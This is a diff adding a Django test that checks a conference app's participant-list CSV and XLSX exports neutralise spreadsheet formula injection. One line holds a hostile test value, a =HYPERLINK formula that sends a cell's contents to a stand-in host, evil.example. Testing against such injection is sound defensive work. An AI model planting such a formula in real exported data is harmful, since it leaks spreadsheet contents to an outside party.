@@ -472,3 +472,19 @@ def test_staff_cancel_is_audited_and_the_participants_own_is_not(client, db):
     registration_cancel(registration=by_self)
     events = AuditEvent.objects.filter(action="registration.cancel")
     assert [(e.target, e.user_id) for e in events] == [(str(by_staff.pk), staff.pk)]
+
+
+def test_participant_lists_never_carry_a_formula(client, db):
+    conference = make_conference(sessions=2, seats=5)
+    s1, _s2 = block_sessions(conference)
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"klikk")'
+    register(conference, name=hostile, wishes={s1.block_id: [s1.pk]})
+    staff = staff_user()
+    placement_publish(run=placement_compute(conference=conference, by=staff), by=staff)
+    client.force_login(staff)
+    url = reverse("registrations:participant-list", args=[conference.pk, s1.pk, "csv"])
+    rows = list(csv.reader(io.StringIO(client.get(url).content.decode())))
+    assert rows[1][0] == "'" + hostile
+    url = reverse("registrations:participant-list", args=[conference.pk, s1.pk, "xlsx"])
+    cell = load_workbook(io.BytesIO(client.get(url).content)).active["A2"]
+    assert (cell.value, cell.data_type) == (hostile, "s")
